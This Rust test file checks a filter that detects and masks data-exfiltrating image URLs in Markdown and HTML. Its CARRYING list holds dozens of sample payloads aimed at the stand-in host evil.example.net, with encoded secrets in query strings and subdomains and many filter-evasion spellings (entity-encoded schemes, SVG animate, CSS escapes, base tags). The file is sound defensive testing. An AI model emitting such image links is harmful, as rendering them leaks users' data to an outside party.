//! Images that carry data, however they are written, and those that do not. `U` stands for the first URL.

use super::*;

const U: &str = "https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==";

/// What is fetched and carries data.
const CARRYING: [&str; 74] = [
    "![x](U)",
    // Spellings of scheme and slashes.
    "![x](h&#116;tps://evil.example.net/p.png?d=B)",
    "![x](&#x68;ttps://evil.example.net/p.png?d=B)",
    "![x](https&colon;//evil.example.net/p.png?d=B)",
    "![x](https\\://evil.example.net/p.png?d=B)",
    "![x](https:\\/\\/evil.example.net/p.png?d=B)",
    "![x](\\//evil.example.net/p.png?d=B)",
    "![x](&sol;&sol;evil.example.net/p.png?d=B)",
    "![x][r]\n\n[r]: https&colon;//evil.example.net/p.png?d=B",
    "![x][r]\n\n[r]: \\\\\\\\evil.example.net/p.png?d=B",
    "<img src=\"ht\ttps://evil.example.net/p.png?d=B\">",
    "<img src=\"htt\nps://evil.example.net/p.png?d=B\">",
    "<img src=\"h&#116;tps://evil.example.net/p.png?d=B\">",
    "<img src=\"https&colon;&sol;&sol;evil.example.net/p.png?d=B\">",
    "<img src=\"&sol;/evil.example.net/p.png?d=B\">",
    "<img src=\"/\t/evil.example.net/p.png?d=B\">",
    "<img src=\"\u{1}U\">",
    "<img src=\" \n U\">",
    "<img src=U>",
    "<img src = 'U'/>",
    "<img/src='U'/>",
    // Where a URL ends.
    "![x](https://evil.example.net/a\\)b?d=B)",
    "![x](<https://evil.example.net/a\\>b?d=B>)",
    "![x](https://evil.example.net/a(b)c?d=B)",
    // Tags.
    "<img alt=\">\" src=\"U\">",
    "<img alt=\"<\" src=\"U\">",
    "<img alt=\"L\" src=\"U\">",
    "<a title=\" <img alt=\"<b>\" src=\"U\">",
    "<link title=\"<a\" href=\"U\">",
    "<img srcset=\"a.png 1x, U 2x\">",
    "<img data-src=\"U\">",
    "<img-x src=\"U\">",
    "<svg:image xlink:href=\"U\"/>",
    "<svg><image href=\"U\"/></svg>",
    "<svg><image><set attributeName=href to=\"U\"/></image></svg>",
    "<svg><image><animate attributeName=href values=\"U\"/></image></svg>",
    "<math><mglyph src=\"U\"/>",
    "<table><tr><th background=\"U\">",
    "<table><tr background=\"U\">",
    "<tbody background=\"U\">",
    "<video poster=\"U\">",
    "<object data=\"U\">",
    "<iframe srcdoc=\"<img src='U'>\">",
    "<iframe srcdoc=\"&lt;img src='U'&gt;\">",
    "<link rel=prefetch href=U>",
    "<meta http-equiv=refresh content=\"0;url=U\">",
    "<base href=\"https://evil.example.net/\"><img src=\"p.png?d=B\">",
    "<base href=\"https://evil.example.net/\">\n\n![x](p.png?d=B)",
    // Labels.
    "![a \\[ b](U)",
    "![a\\[b](U)",
    "![a\\]b](U)",
    "![a]b](U)",
    "![a [b](U)",
    "![a [c] b](U)",
    "![`[`](U)",
    "[![x](U)](https://ok.example)",
    // Quotations.
    "> ![x](\n> U)",
    "> ![x][r]\n>\n> [r]:\n> U",
    "![x][r]\n\n[r]:\n   <U>",
    // Style sheets.
    "<style>a{background:url( \"U\" )}</style>",
    "<style>a{background:url(U)}</style>",
    "<style>a{background:u\\72l(\"U\")}</style>",
    "<style>a{background:url(\\68ttps\\3a //evil.example.net/p.png?d=B)}</style>",
    "<style>@import \"U\";</style>",
    "<div style=\"background:url(U)\">",
    "<div style=\"background:image-set('U' 1x)\">",
    // What carries.
    "![x](https://c2VjcmV0IGRhdGEgZm9yIHlvdQ@evil.example.net/p.png)",
    "![x](https://c2VjcmV0IGRh.dGEgZm9yIHlvdQ.evil.example.net/p.png)",
    "![x](https://736563726574206461.746120666f7220796.evil.example.net/p.png)",
    "![x](https://evil.example.net/p.png?d=%2573%2565%2563%2572%2565%2574%2520%2564%2561%2574%2561)",
    "![x](https://evil.example.net/p.png?token=AKIAQ7ZTRM4XLP2WN5GK)",
    "![x](https://evil.example.net/p.png?d=my-bank-password-is-hunter2-and-pin-is-7714)",
    "![x](https://evil.example.net/p.png?d&#61;B)",
    "![x](https://evil.example.net/p.png?d=c2VjcmV0IGRh.dGEgZm9yIHlvdQ)",
];

/// What is fetched or followed and carries none.
const ORDINARY: [&str; 34] = [
    "![b](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat-square&logo=rust&label=build%20status)",
    "![b](https://img.shields.io/github/actions/workflow/status/acme/app/ci.yml?branch=main)",
    "![b](https://avatars.githubusercontent.com/u/9919?s=200&v=4)",
    "![b](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)",
    "![b](https://images.unsplash.com/photo-1506744038136-46273834b3fb?auto=format&fit=crop&w=800&q=80)",
    "![b](https://s3.example.org/b/k.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAQ7ZTRM4XLP2WN5GK%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)",
    "![b](https://my-bucket-name.s3.us-east-1.amazonaws.com/media/logo.3f2a9b1c8d7e6f50.png)",
    "![b](https://d111111abcdef8.cloudfront.net/images/hero-image_1600x900.webp?v=2f9a8c1e)",
    "![b](https://cdn.example.org/_next/image?url=%2Fimages%2Fhero.png&w=1920&q=75)",
    "![b](https://res.cloudinary.com/demo/image/upload/c_fill,g_face,h_300,w_300/v1312461204/sample.jpg)",
    "![b](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a7/Camponotus_flavomarginatus_ant.jpg/640px-Camponotus_flavomarginatus_ant.jpg)",
    "![b](https://example.org/blog/how-to-write-a-parser-by-hand-in-ten-small-steps.png)",
    "![b](https://via.placeholder.com/600x400?text=Product+Image)",
    "![b](https://example.org/%E6%97%A5%E6%9C%AC%E8%AA%9E/%E5%9B%BE%E7%89%87.png)",
    "![b](https://fbcdn.example.net/v/t1.6435-9/1_n.jpg?oh=00_AfBq7Zk9x1mC&oe=65A1B2C3&_nc_ht=scontent)",
    "![b](https://blob.example.net/c/a.png?sv=2022-11-02&se=2026-01-01T00%3A00%3A00Z&sr=b&sp=r&sig=Q9v8hJt1mC2xk4Zr7Wq0Yp3Ls6Nd5Ff%2Bg%3D)",
    "![b](images/a.png \"title\")",
    "![b](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==\">",
    "<img src=\"/static/logo.png\" alt=\"a > b\" width=10>",
    "<img src='https://example.org/a.png?w=100&amp;h=200'>",
    "<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css\" integrity=\"sha384-QWTKZyjpPEjISv5WaRU9OFeRpok6YctnYmDr5pNlyT2bRjXh0JMhjY6hW+ALEwIH\">",
    "<script src=\"https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js\"></script>",
    "<link href=\"https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&amp;display=swap\" rel=stylesheet>",
    "<style>@import url(\"https://fonts.googleapis.com/css2?family=Roboto+Mono&display=swap\");</style>",
    "<div style=\"background:url('https://example.org/a/b.png')\">",
    "<base href=\"https://example.org/\"><img src=\"p.png?v=3\"><a href=\"next\">n</a>",
    "<meta http-equiv=\"refresh\" content=\"5; url=https://example.org/next\">",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7\"/></svg>",
    "a // comment, b[1](2), if (a <b) && c > d; x = [y]: \\alpha and &amp; &copy; //",
    "C:\\Users\\me, \\\\server\\share, `\\d+\\.\\d+`, r\"\\\\n\"",
    "> quoted [text](https://example.org/a) and\n> ![b](\n> https://example.org/a.png)",
    "[1]: https://example.org/docs/guide#install\n[2]: <https://example.org/b>",
    "see <https://example.org/> or https://example.org/a_(b)?c=d, (https://example.org).",
];

fn spelled(text: &str) -> String {
    let long = "a".repeat(600);
    let text = text.replace("\"L\"", &format!("\"{long}\""));
    let text = text.replace("d=B", "d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==");
    let text = text.replace("&#61;B", "&#61;c2VjcmV0IGRhdGEgZm9yIHlvdQ==");
    text.replace('U', U)
}

/// What comes out of a text that is cut in every place, as in one piece.
fn all_ways(watch: &Watch, text: &str) -> String {
    let (out, found) = through(watch, Kind::Prose, &[text]);
    let chars: Vec<(usize, char)> = text.char_indices().collect();
    for (at, _) in &chars {
        let (head, tail) = text.split_at(*at);
        let parted = through(watch, Kind::Prose, &[head, tail]);
        assert_eq!(parted, (out.clone(), found.clone()), "{text:?} at {at}");
    }
    let singles: Vec<String> = chars.iter().map(|(_, c)| c.to_string()).collect();
    let singles: Vec<&str> = singles.iter().map(String::as_str).collect();
    assert_eq!(through(watch, Kind::Prose, &singles).0, out, "{text:?}");
    out
}

#[test]
fn an_image_that_carries_data_is_known_in_every_dress() {
    let watch = watch(&[
        ("markup.image", Treatment::Mask),
        ("markup.link", Treatment::Record),
    ]);
    let mut passed = Vec::new();
    for text in CARRYING {
        let out = all_ways(&watch, &spelled(text));
        if !out.contains("hxxp") {
            passed.push(text);
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn ordinary_images_and_links_pass() {
    let watch = watch(&[("markup", Treatment::Mask)]);
    let mut changed = Vec::new();
    for text in ORDINARY {
        let out = all_ways(&watch, text);
        if out != text {
            changed.push(out);
        }
    }
    assert!(changed.is_empty(), "{changed:#?}");
}

#[test]
fn a_link_stays_a_link() {
    let watch = watch(&[
        ("markup.image", Treatment::Mask),
        ("markup.link", Treatment::Record),
    ]);
    for text in [
        "[x](U)",
        "<a href=\"U\">x</a>",
        "<p>a<br><a class=b href='U'>x</a>",
        "see U now",
        "<U>",
        "[![b](https://ok.example/b.svg)](U)",
        "![b](https://ok.example/b.svg) and [x](U)",
        "an ![open label\n\n[x](U)",
    ] {
        let text = spelled(text);
        assert_eq!(all_ways(&watch, &text), text);
        assert_eq!(whole(&watch, Kind::Prose, &text).1, 1, "{text}");
    }
}

/// Ten times the text takes ten times as long, not a hundred: a wide bound, since the machine may be busy.
#[expect(
    clippy::disallowed_methods,
    reason = "a test measures how long it takes"
)]
#[test]
fn hostile_texts_take_linear_time() {
    let watch = watch(&[("markup", Treatment::Mask)]);
    let time = |text: &str| {
        let began = std::time::Instant::now();
        whole(&watch, Kind::Prose, text);
        began.elapsed().as_secs_f64()
    };
    for piece in [
        "<img alt=\"",
        "![",
        "[",
        "](",
        "&#",
        "h&#116;",
        "<style>",
        "\\",
        "> ",
        "<a href=",
        "/\t",
        "http:",
        "![x](h",
        "=\"='",
    ] {
        let (short, long) = (piece.repeat(20_000), piece.repeat(200_000));
        time(&short);
        let (short, long) = (time(&short), time(&long));
        assert!(long < 40.0 * short + 0.5, "{piece:?}: {short} {long}");
    }
}

/// What comes out of two texts that a client joins.
fn joined(watch: &Watch, first: &str, second: &str) -> String {
    let mut found = Vec::new();
    let (mut out, mut joint) = (String::new(), None);
    for text in [first, second] {
        let mut one = Text::new(Kind::Prose, watch);
        one.join(joint);
        let mut waits = text.to_owned();
        let steps = one.push(watch, text, true, &mut found);
        apply(&steps, &mut waits, &mut out);
        assert!(waits.is_empty(), "all of it goes on");
        joint = one.joint();
    }
    out
}

#[test]
fn a_url_that_two_texts_share_is_judged_as_one() {
    let watch = watch(&[(IMAGE, Treatment::Mask)]);
    for text in [
        "see ![x](U) there",
        "<img src=\"U\"> x",
        "<img src='U'>",
        "![x][r]\n\n[r]: U\nx",
    ] {
        let text = text.replace('U', U);
        let url = text.find(U).expect("it holds one");
        for at in url + "https://".len()..url + U.len() {
            let out = joined(&watch, &text[..at], &text[at..]);
            assert!(!out.contains(U), "{at}: {out}");
            assert!(
                out.contains("hxxps:") || out.contains("[masked: "),
                "{at}: {out}"
            );
        }
    }
    for text in ORDINARY {
        for at in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
            // A URL that ends there may carry data by itself.
            let (first, second) = text.split_at(at);
            if joined(&watch, first, "") == first {
                assert_eq!(joined(&watch, first, second), text, "{at}");
            }
        }
    }
}
